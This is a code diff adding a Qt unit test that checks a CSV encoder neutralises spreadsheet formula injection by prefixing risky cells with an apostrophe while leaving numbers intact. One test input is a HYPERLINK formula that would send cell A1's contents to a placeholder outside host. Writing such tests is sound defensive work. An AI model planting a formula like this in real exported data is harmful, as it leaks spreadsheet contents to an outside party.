@@ -27,6 +27,22 @@ private Q_SLOTS:
         QCOMPARE(parsed.records, records);
     }
 
+    void formulasAreWrittenAsTextAndNumbersStayNumbers()
+    {
+        const QStringList names
+            = {QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"x\")"), QStringLiteral("+SUM(1;2)"),
+                QStringLiteral("@A1"), QStringLiteral("-2+3"), QStringLiteral("\tcmd"), QStringLiteral("\r=1")};
+        for (const QString& name : names) {
+            const csv::Parsed parsed = csv::decode(csv::encode({{name}}));
+            QCOMPARE(parsed.records, QList<QStringList>({{QLatin1Char('\'') + name}}));
+        }
+        const csv::Parsed numbers = csv::decode(csv::encode({{QStringLiteral("-2"), QStringLiteral("+3.5"),
+            QStringLiteral("90.0"), QStringLiteral("O'Brien"), QStringLiteral("Anne-Marie")}}));
+        QCOMPARE(numbers.records.first(),
+            QStringList({QStringLiteral("-2"), QStringLiteral("+3.5"), QStringLiteral("90.0"),
+                QStringLiteral("O'Brien"), QStringLiteral("Anne-Marie")}));
+    }
+
     void spreadsheetDialectsAreRead()
     {
         // No byte-order mark, bare LF and CR line ends, a blank line, a last record without
